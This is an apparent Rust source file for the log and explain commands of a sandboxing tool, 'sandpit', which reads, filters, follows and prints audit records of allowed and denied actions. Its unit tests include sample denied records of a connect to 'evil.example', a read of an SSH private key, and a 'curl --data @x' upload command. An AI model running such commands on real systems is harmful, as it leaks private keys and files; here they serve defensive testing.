//! `sandpit log [RUN] [--denied] [--json] [--list] [--follow]`: show a run's audit
//! log (default: the latest run); `--follow` shows its decisions as they are
//! appended, until the run ends. Also the `--run R` hook of `sandpit explain`: which records of
//! run R match the request, and why they were denied.
use std::path::{Path, PathBuf};

use crate::audit::{self, Record};
use crate::cli::UsageError;

#[derive(Debug, clap::Args)]
pub struct Args {
    /// Run id (or a unique prefix of one); default: the latest run.
    pub run: Option<String>,
    /// Only denials (and would-be denials recorded by --learn).
    #[arg(long)]
    pub denied: bool,
    /// The records as JSON lines, exactly as logged.
    #[arg(long)]
    pub json: bool,
    /// List the logged runs instead.
    #[arg(long, conflicts_with_all = ["run", "denied"])]
    pub list: bool,
    /// Show the run's decisions as they are appended, one line each (in colour on
    /// a terminal: denials red, allows green), until the run ends or Ctrl-C.
    #[arg(long, short = 'f', conflicts_with = "list")]
    pub follow: bool,
}

fn state_dir() -> anyhow::Result<PathBuf> {
    Ok(crate::config::state_dir(&crate::config::home()?))
}

fn find(state: &Path, run: Option<&str>) -> anyhow::Result<(String, PathBuf)> {
    audit::find_run(state, run).map_err(|e| match e {
        audit::AuditError::NoRun(_) | audit::AuditError::NoRuns(_) => {
            UsageError(format!("{e} (`sandpit log --list` shows them)")).into()
        }
        e => e.into(),
    })
}

pub fn execute(args: Args) -> anyhow::Result<i32> {
    let state = state_dir()?;
    if args.list {
        for r in audit::runs(&state)? {
            let path = audit::logs_dir(&state).join(format!("{r}.jsonl"));
            let (recs, torn) = audit::read_log_after_crash(&path).unwrap_or_default();
            let ended = match audit::abnormal_end(&r, &recs, torn) {
                Some(l) if l.contains("ended abnormally") => "  (ended abnormally)",
                Some(l) if l.contains("still running") => "  (running)",
                _ => "",
            };
            let denied = recs.iter().filter(|x| x.decision.is_denial()).count();
            let cmd = recs
                .iter()
                .find(|x| x.action == "start")
                .map(|x| x.subject.clone())
                .unwrap_or_default();
            println!("{r}  {denied} denied  {cmd}{ended}");
        }
        return Ok(0);
    }
    let (run, path) = find(&state, args.run.as_deref())?;
    if args.follow {
        return follow(&run, &path, &args);
    }
    let (all, torn) = audit::read_log_after_crash(&path)?;
    let ending = audit::abnormal_end(&run, &all, torn);
    let records: Vec<Record> = all
        .into_iter()
        .filter(|r| !args.denied || r.decision.is_denial())
        .collect();
    let home = crate::config::home()?;
    for r in &records {
        if args.json {
            println!("{}", serde_json::to_string(r)?);
        } else {
            print!("{}", human(&home, r));
        }
    }
    if args.denied && records.is_empty() && !args.json {
        println!("no denials in run {run}");
    }
    if let Some(line) = ending {
        // Said last, where the exit record would stand (--json: on stderr, so the
        // lines on stdout stay records).
        if args.json {
            eprintln!("{line}");
        } else {
            println!("{line}");
        }
    }
    Ok(0)
}

/// How often `--follow` looks for new lines when there were none.
const FOLLOW_POLL: std::time::Duration = std::time::Duration::from_millis(100);

/// `sandpit log --follow`: the decisions (allow, deny, learn) and live rule changes of
/// the log at `path`, those written so far and then each as it is appended, until the run's `exit`
/// record (or its launcher is gone without one).
fn follow(run: &str, path: &Path, args: &Args) -> anyhow::Result<i32> {
    use std::io::{IsTerminal, Read, Seek, SeekFrom, Write};
    let colour = std::io::stdout().is_terminal();
    let mut f = std::fs::File::open(path)
        .map_err(|e| anyhow::anyhow!("opening {}: {e}", path.display()))?;
    let mut pending: Vec<u8> = vec![];
    let mut at = 0u64;
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        f.seek(SeekFrom::Start(at))?;
        let n = f.read(&mut buf)?;
        if n == 0 {
            // Nothing new: the run may have ended without its exit record.
            if let Some(line) = audit::abnormal_end(run, &[], false) {
                if !line.contains("still running") {
                    println!("{line}");
                    return Ok(0);
                }
            }
            std::thread::sleep(FOLLOW_POLL);
            continue;
        }
        at += n as u64;
        pending.extend_from_slice(&buf[..n]);
        let mut out = std::io::stdout().lock();
        while let Some(end) = pending.iter().position(|&b| b == b'\n') {
            let line: Vec<u8> = pending.drain(..=end).collect();
            let Ok(r) = serde_json::from_slice::<Record>(&line) else {
                continue;
            };
            if r.layer == audit::Layer::Launcher && r.action == "exit" {
                let _ = writeln!(out, "sandpit: run {run} ended (exit {})", r.subject);
                return Ok(0);
            }
            // Decisions, and the live changes of the run's rules (`sandpit allow|deny`,
            // an answered question): both change what the run may do next.
            let live_change = r.layer == audit::Layer::Launcher && r.action == "policy";
            if (matches!(r.decision, audit::Decision::Info) && !live_change)
                || (args.denied && !r.decision.is_denial())
            {
                continue;
            }
            let text = if args.json {
                String::from_utf8_lossy(line.strip_suffix(b"\n").unwrap_or(&line)).into_owned()
            } else {
                one_line(&r)
            };
            let text = match (colour, r.decision) {
                (true, audit::Decision::Allow) => format!("\x1b[32m{text}\x1b[0m"),
                (true, _) => format!("\x1b[31m{text}\x1b[0m"),
                (false, _) => text,
            };
            // A reader that went away ends the command quietly.
            if writeln!(out, "{text}").and_then(|_| out.flush()).is_err() {
                return Ok(0);
            }
        }
    }
}

/// One decision on one line: time, layer, verdict, action, subject, rule, reason.
fn one_line(r: &Record) -> String {
    let mut s = format!(
        "{}  {:<10} {:<5} {:<7} {}",
        r.time,
        r.layer.as_str(),
        r.decision.as_str(),
        r.action,
        crate::console::printable(&r.subject)
    );
    if let Some(rule) = &r.rule {
        s.push_str(&format!(
            "  rule: {}",
            crate::console::printable(&rule.to_string())
        ));
    }
    if !r.reason.is_empty() {
        s.push_str(&format!(
            "  reason: {}",
            crate::console::printable(&r.reason)
        ));
    }
    s
}

/// One record for people: a line, then the rule and reason indented.
pub fn human(home: &Path, r: &Record) -> String {
    let subject = crate::console::printable(&match r.action.as_str() {
        "read" | "write" => audit::summary::tilde(home, &r.subject),
        _ => r.subject.clone(),
    });
    let mut s = format!(
        "{}  {:<10} {:<5} {:<7} {}\n",
        r.time,
        r.layer.as_str(),
        r.decision.as_str(),
        r.action,
        subject
    );
    if let Some(rule) = &r.rule {
        s.push_str(&format!(
            "    rule:   {}\n",
            crate::console::printable(&rule.to_string())
        ));
    }
    if !r.reason.is_empty() {
        s.push_str(&format!(
            "    reason: {}\n",
            crate::console::printable(&r.reason)
        ));
    }
    if let Some(pid) = r.pid {
        let program = r.program.as_deref().map(crate::console::printable);
        s.push_str(&format!(
            "    by:     pid {pid}{}\n",
            program.map(|p| format!(" ({p})")).unwrap_or_default()
        ));
    }
    s
}

/// Does record `r` answer the question `what`?
fn matches(r: &Record, what: &crate::cli::explain::What) -> anyhow::Result<bool> {
    use crate::cli::explain::What;
    let absolute = |p: &Path| -> anyhow::Result<PathBuf> {
        Ok(if p.is_absolute() {
            p.to_path_buf()
        } else {
            std::env::current_dir()?.join(p)
        })
    };
    Ok(match what {
        What::Read { path, .. } | What::Write { path, .. } => {
            let want = if matches!(what, What::Read { .. }) {
                "read"
            } else {
                "write"
            };
            let p = absolute(path)?;
            let resolved = sandpit_policy::path::resolve_existing(&p);
            r.action == want
                && [p, resolved]
                    .iter()
                    .any(|p| Path::new(&r.subject).starts_with(p))
        }
        What::Connect { host, .. } => {
            let (h, port) = sandpit_policy::parse_authority(host)
                .map_err(|e| UsageError(format!("{host:?}: {e}")))?;
            let name = h.to_string();
            let (rh, rp) = match r.subject.rsplit_once(':') {
                Some((a, b)) if r.action == "connect" => {
                    (a.trim_matches(['[', ']']), b.parse::<u16>().ok())
                }
                _ => (r.subject.as_str(), None),
            };
            matches!(r.action.as_str(), "connect" | "resolve")
                && rh.eq_ignore_ascii_case(name.trim_matches(['[', ']']))
                && (port.is_none() || rp.is_none() || port == rp)
        }
        What::Udp { addr } => {
            let a: std::net::SocketAddr = addr
                .parse()
                .map_err(|_| UsageError(format!("{addr:?} is no address and port")))?;
            r.action == "udp"
                && r.subject
                    .parse::<std::net::SocketAddr>()
                    .is_ok_and(|s| s == a)
        }
        What::Exec { argv } => r.action == "exec" && r.subject.contains(&argv.join(" ")),
        What::Unix { path } => {
            let p = absolute(path)?;
            r.action == "unix"
                && [sandpit_policy::path::resolve_existing(&p), p]
                    .iter()
                    .any(|p| Path::new(&r.subject) == p)
        }
        // Variables are decided when the run starts: no record names them.
        What::Env { .. } | What::Listen { .. } => false,
        What::Http { url, .. } => {
            r.layer.as_str() == "proxy"
                && url
                    .split_once("://")
                    .map(|(_, rest)| rest.split(['/', '?']).next().unwrap_or(""))
                    .is_some_and(|a| r.subject.starts_with(a))
        }
    })
}

/// `sandpit explain --run R …`: the matching denials of run R.
pub fn explain_run(run: &str, what: &crate::cli::explain::What, json: bool) -> anyhow::Result<i32> {
    let state = state_dir()?;
    let (id, path) = find(&state, Some(run))?;
    let mut hits = vec![];
    for r in audit::read_log(&path)? {
        if r.decision.is_denial() && matches(&r, what)? {
            hits.push(r);
        }
    }
    let home = crate::config::home()?;
    if json {
        let v = serde_json::json!({ "run": id, "records": hits });
        println!("{}", serde_json::to_string_pretty(&v)?);
        return Ok(if hits.is_empty() { 1 } else { 0 });
    }
    if hits.is_empty() {
        println!(
            "run {id}: no denial in the audit log matches. Denials by the kernel layer alone are \
             logged only in runs where a program lacked the interposer (it answers EACCES/EPERM \
             silently; the launcher's notifier reports them there); `sandpit explain` without \
             --run says what the policy decides."
        );
        return Ok(1);
    }
    println!("run {id}: {} matching denial(s)", hits.len());
    for r in &hits {
        print!("{}", human(&home, r));
        for f in audit::summary::fixes(&home, r) {
            for l in f.lines().lines() {
                println!("    would allow it: {l}");
            }
        }
    }
    Ok(0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::{Decision, Layer};
    use crate::cli::explain::What;

    fn rec(action: &str, subject: &str) -> Record {
        Record::new("r", Layer::Proxy, action, subject.into(), Decision::Deny)
    }

    #[test]
    fn explain_run_matching() {
        let connect = |h: &str| What::Connect {
            host: h.into(),
            program: None,
        };
        let r = rec("connect", "evil.example:443");
        assert!(matches(&r, &connect("evil.example")).unwrap());
        assert!(matches(&r, &connect("EVIL.example.:443")).unwrap());
        assert!(!matches(&r, &connect("evil.example:80")).unwrap());
        assert!(!matches(&r, &connect("other.example")).unwrap());
        let v6 = rec("connect", "[::1]:8080");
        assert!(matches(&v6, &connect("[::1]:8080")).unwrap());
        let read = rec("read", "/h/.ssh/id_rsa");
        let dir = What::Read {
            path: "/h/.ssh".into(),
            spawned: false,
        };
        assert!(matches(&read, &dir).unwrap());
        assert!(!matches(
            &read,
            &What::Write {
                path: "/h/.ssh".into(),
                spawned: false,
            }
        )
        .unwrap());
        assert!(!matches(
            &read,
            &What::Read {
                path: "/h/.ss".into(),
                spawned: false,
            }
        )
        .unwrap());
        let exec = rec("exec", "curl --data @x https://e");
        let argv = |a: &[&str]| What::Exec {
            argv: a.iter().map(|s| s.to_string()).collect(),
        };
        assert!(matches(&exec, &argv(&["curl", "--data"])).unwrap());
        assert!(!matches(&exec, &argv(&["wget"])).unwrap());
    }
}
